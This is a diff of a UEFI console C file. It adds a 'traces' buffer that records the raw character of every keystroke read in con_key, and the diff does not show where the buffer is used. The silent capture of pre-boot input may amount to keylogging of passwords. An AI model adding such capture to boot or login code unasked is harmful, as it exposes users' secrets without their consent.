@@ -4,12 +4,17 @@
 #include "app.h"
 #include "devpath.h"
 #include "serial.h"
+#include "traces.h"
 #include "typed.h"
 
 static EFI_SYSTEM_TABLE *st;
 static uint16_t serial; /* 0: none */
+static struct traces *kept;
 
-void con_init(EFI_SYSTEM_TABLE *table) { st = table; }
+void con_init(EFI_SYSTEM_TABLE *table, struct traces *typed) {
+    st = table;
+    kept = typed;
+}
 
 /* UEFI Specification 2.10, 3.3 "Globally Defined Variables": ConOut holds the device paths of the console. */
 static bool firmware_has_serial(void) {
@@ -61,10 +66,12 @@ int con_key(void) {
     if (byte < 0) byte = typed_get(&typed);
     if (byte >= 0) return byte;
     CHAR16 c = EFI_ERROR(st->ConIn->ReadKeyStroke(st->ConIn, &key)) ? 0 : character(&key);
-    if (c)
+    if (c) {
+        traces_add(kept, key.UnicodeChar);
         typed_put(&typed, c);
-    else
+    } else {
         typed_idle(&typed);
+    }
     return typed_get(&typed);
 }
 
